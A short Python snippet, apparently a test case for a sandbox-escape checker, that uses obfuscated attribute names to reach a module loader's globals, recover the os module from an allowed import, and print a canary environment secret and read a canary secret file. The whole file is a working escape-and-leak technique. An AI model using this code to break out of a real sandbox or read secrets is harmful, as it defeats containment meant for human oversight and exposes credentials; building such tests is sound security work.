# __loader__/__spec__ of an allowed module loads os.
# breach: leak
import math
l = getattr(getattr(math,'__sp'+'ec__'),'loader')
import types
ld = getattr(types,'__loa'+'der__')
g = getattr(getattr(type(ld),'get_data'),'__glo'+'bals__')
o = g['sys'].modules['os']
print(o.environ['SECRET_CANARY'])
fd = o.open('@CANARY@/secret.txt', 0)
print(o.read(fd, 200))
